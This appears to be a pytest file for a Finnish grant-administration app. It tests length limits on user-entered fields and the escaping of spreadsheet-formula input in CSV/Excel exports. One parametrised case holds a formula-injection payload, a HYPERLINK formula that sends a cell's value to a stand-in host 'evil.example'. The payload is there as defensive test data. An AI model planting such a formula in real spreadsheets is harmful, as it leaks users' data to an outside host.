"""One limit on what a person types in a field (``avustus.texts``), refused on the field before anything is
written: a report, an official's reasons, a recovery's, a change request's."""

from datetime import date
from decimal import Decimal

import pytest

from avustus.audit.models import AuditEntry
from avustus.changes import services as changes
from avustus.errors import Invalid
from avustus.projects.services import allow_extra_instalment
from avustus.reports import services as reports
from avustus.reports.models import InterimReport
from avustus.reports.outputs import add_output
from avustus.reports.services import CostInput
from avustus.settlement import recovery
from avustus.texts import MAX_TEXT, spreadsheet_cell, too_long
from tests.projects.conftest import cast, person, small_round  # noqa: F401 (fixtures)

LONG = "x" * (MAX_TEXT + 1)


@pytest.mark.usefixtures("english")
def test_the_limit_is_on_each_field_and_the_longest_allowed_passes():
    assert too_long(a="x" * MAX_TEXT, b=None, c="") == {}
    assert too_long(a=LONG, b="ok") == {"a": ["At most 10\u00a0000 characters."]}


@pytest.mark.django_db
@pytest.mark.usefixtures("english")
def test_a_report_or_an_officials_reasons_too_long_are_refused_on_the_field_and_nothing_is_written(cast):
    entries = AuditEntry.objects.count()
    with pytest.raises(Invalid) as refused:
        reports.submit_report(cast.project, 1, actor=cast.lead, period_start=date(2020, 2, 26),
                              period_end=date(2020, 6, 20), progress=LONG, objectives_stage="Alussa.",
                              costs=[CostInput("cost-1", 0, "1000.00", "0")], today=date(2020, 6, 20))
    assert refused.value.message_dict == {"progress": ["At most 10\u00a0000 characters."]}
    assert not InterimReport.objects.exists()
    report = reports.submit_report(cast.project, 1, actor=cast.lead, period_start=date(2020, 2, 26),
                                   period_end=date(2020, 6, 20), progress="Etenee.", objectives_stage="Alussa.",
                                   costs=[CostInput("cost-1", 0, "1000.00", "0")], today=date(2020, 6, 20))
    entries = AuditEntry.objects.count()
    # Each step with its long field; the recovery's form is refused with all its problems at once (nothing is
    # paid on this project yet), its reasons' length among them.
    steps = [
        ("reasons", lambda: reports.return_report(report, actor=cast.official, version=reports.report_version(report),
                                                  reasons=LONG)),
        ("reason", lambda: allow_extra_instalment(cast.project, reason=LONG, actor=cast.official,
                                                  shown=cast.project.extra_instalments)),
        ("reasons", lambda: recovery.start_recovery(
            cast.project, actor=cast.official, section=22, subsection=1, amount="1,00", reasons=LONG,
            known_on=date(2020, 9, 1), deadline=date(2020, 10, 1), on=date(2020, 9, 2),
            version=recovery.cases_version(cast.project))),
        ("reasons", lambda: changes.submit_request(cast.project, actor=cast.lead, kind="extension", reasons=LONG,
                                                   new_end=date(2021, 12, 31))),
        ("description", lambda: add_output(cast.project, actor=cast.lead, kind="document", title="Opas",
                                           description="x" * 2001)),
    ]
    for field, step in steps:
        with pytest.raises(Invalid) as refused:
            step()
        assert refused.value.message_dict[field][0].startswith("At most")
    report.refresh_from_db()
    assert report.status == InterimReport.Status.SUBMITTED and AuditEntry.objects.count() == entries


@pytest.mark.parametrize(("typed", "written"), [
    ('=HYPERLINK("http://evil.example/?"&A1,"Click")', '\'=HYPERLINK("http://evil.example/?"&A1,"Click")'),
    ("+358 40 123", "'+358 40 123"), ("-1", "'-1"), ("@SUM(A1)", "'@SUM(A1)"), ("\tx", "'\tx"), ("\rx", "'\rx"),
    ("Salo", "Salo"), ("Föreningen 1-2", "Föreningen 1-2"), ("", ""), (Decimal("-1.00"), Decimal("-1.00")),
])
def test_a_cell_that_a_spreadsheet_would_run_as_a_formula_is_written_as_text(typed, written):
    assert spreadsheet_cell(typed) == written
